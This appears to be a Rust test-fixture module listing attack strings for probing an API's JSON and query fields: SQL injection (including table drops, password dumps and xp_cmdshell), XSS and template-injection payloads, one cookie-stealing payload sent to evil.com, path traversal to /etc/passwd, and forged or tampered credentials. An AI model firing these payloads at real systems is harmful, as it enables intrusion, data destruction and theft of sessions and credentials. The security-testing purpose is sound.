//! Canonical attack strings for JSON and query fields.

pub const SQL_INJECTION: [&str; 11] = [
    "' OR '1'='1",
    "' OR '1'='1' --",
    "'; DROP TABLE dataset; --",
    "' UNION SELECT username,password FROM auth_user --",
    "1' AND SLEEP(5) --",
    "1; WAITFOR DELAY '0:0:5' --",
    "' OR 1=1#",
    "admin'--",
    "1' ORDER BY 100--",
    "' UNION SELECT NULL,NULL,NULL--",
    "\\'; EXEC xp_cmdshell('whoami'); --",
];

pub const XSS: [&str; 11] = [
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "<iframe src='javascript:alert(1)'>",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "{{constructor.constructor('return this')()}}",
    "<img src=x onerror=fetch('http://evil.com/steal?c='+document.cookie)>",
    "'\"><script>alert(String.fromCharCode(88,83,83))</script>",
];

/// Length classes for oversized string fields.
pub const BOUNDARY_LENGTHS: [usize; 4] = [256, 1_000, 10_000, 100_000];

pub const SPECIAL_NAMES: [&str; 8] = [
    "",
    " ",
    "\n\r\t",
    "\u{0}",
    "a\u{0}b",
    "../../../etc/passwd",
    "CON",
    "NUL",
];

pub const FOREIGN_WORKSPACES: [&str; 5] = ["admin", "test", "other", "../default", "default/../../admin"];

/// Malformed identifiers; `random_id` fills the one well-formed but
/// nonexistent slot.
pub fn invalid_ids(random_id: &str) -> Vec<String> {
    [
        "0", "-1", "99999999", "not-a-uuid", "' OR 1=1 --",
        random_id,
        "../../../etc/passwd", "null", "undefined", "NaN", "30", "abc", "1",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

pub fn invalid_credentials() -> Vec<String> {
    vec![
        "Bearer invalidtoken123".to_string(),
        format!("Bearer {}", "A".repeat(500)),
        "InvalidFormat".to_string(),
        String::new(),
        "Bearer null".to_string(),
        "Bearer undefined".to_string(),
        "Basic YWRtaW46YWRtaW4=".to_string(),
    ]
}

/// Swap the middle of a `Bearer a:b:c` style credential. `None` when the
/// credential has no colon-separated structure to tamper with.
pub fn tamper_credential(original: &str) -> Option<String> {
    let stripped = original.replace("Bearer ", "");
    let parts: Vec<&str> = stripped.split(':').collect();
    if parts.len() < 2 {
        return None;
    }
    Some(format!("Bearer {}:tampered:{}", parts[0], parts[parts.len() - 1]))
}
